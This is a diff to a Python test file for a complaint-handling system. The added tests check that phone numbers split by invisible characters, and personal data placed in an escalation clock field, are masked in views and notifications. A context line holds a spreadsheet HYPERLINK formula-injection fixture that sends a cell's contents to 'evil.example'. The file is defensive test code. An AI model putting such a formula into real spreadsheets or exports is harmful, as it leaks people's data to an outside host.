@@ -36,6 +36,7 @@ from tests.helpers import intake as _intake
 
 NOW = datetime(2025, 11, 14, 9, 30, tzinfo=SH)
 NAME, PHONE, ROOM = "王小明", "13812345678", "3-2-1201"
+PHONE_GROUPS = ("138", "1234", "5678")
 RECORDING = "录音-13912345678.mp3"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
 
@@ -582,3 +583,53 @@ def test_causes_and_measures_are_redacted_where_the_view_masks() -> None:
         assert (measure["measure"], measure["owner"]) == ("M1", "SR-201")  # ids stay readable
     full = json.dumps(desk.view(c.id, "SR-102", now=NOW), ensure_ascii=False)  # customer service
     assert f"{NAME}家立管老化" in full
+
+
+@pytest.mark.procedure("PRV-1")
+@pytest.mark.parametrize("separator", ["\u200b", "\u00ad", "\u2060"])
+def test_a_phone_split_by_an_invisible_character_is_masked_in_views_and_notifications(
+    separator: str,
+) -> None:
+    """Zero-width space, soft hyphen, word joiner between the groups are not drawn:
+    the reader would see 13924681357 and the complainant's own number (s27N F05)."""
+    desk = make_desk()
+    neighbour, own = (separator.join(groups) for groups in (("139", "2468", "1357"), PHONE_GROUPS))
+    summary = f"楼上漏水，邻居电话{neighbour}，我的电话{own}"
+    c = desk.receive(_intake(receiver="SR-103", summary=summary), now=NOW)
+    masked = desk.view(c.id, "SR-202", now=NOW)["intake"]["summary"]  # an engineer
+    assert masked == "楼上漏水，邻居电话*********57，我的电话*********78"
+    note = desk.messages.render(
+        c, "assigned", desk.directory.get("SR-202"), desk.pack, at=NOW, discriminator="x"
+    )
+    assert "摘要：楼上漏水，邻居电话*********57，我的电话*********78" in note.body
+
+
+@pytest.mark.procedure("PRV-1")
+def test_a_clock_typed_with_personal_data_before_it_was_checked_is_masked_in_views() -> None:
+    """A history written before ``decide`` checked an escalation's clock may hold a
+    name and phone there; a masked view shows pack-code names only (s27N F06)."""
+    from complaintcore import Escalated, Trigger, evolve
+    from complaintcore.desk import masked_record
+    from complaintcore.serialization import complaint_to_dict
+
+    desk = make_desk()
+    c = desk.receive(_intake(receiver="SR-103"), now=NOW)
+    typed = Escalated(
+        at=NOW,
+        actor="SR-201",
+        from_rung="front_line",
+        to_rung="complaint_handler",
+        trigger=Trigger.DEADLINE_MISSED,
+        clock=f"reply,{NAME}{PHONE}",
+    )
+    swept = Escalated(
+        at=NOW,
+        actor="system",
+        from_rung="complaint_handler",
+        to_rung="department_head",
+        trigger=Trigger.DEADLINE_MISSED,
+        clock="reply,promise",
+    )
+    masked = masked_record(complaint_to_dict(evolve(c, (typed, swept))))
+    clocks = [e["clock"] for e in masked["events"] if e["type"] == "escalated"]
+    assert clocks == ["reply,王*************", "reply,promise"]
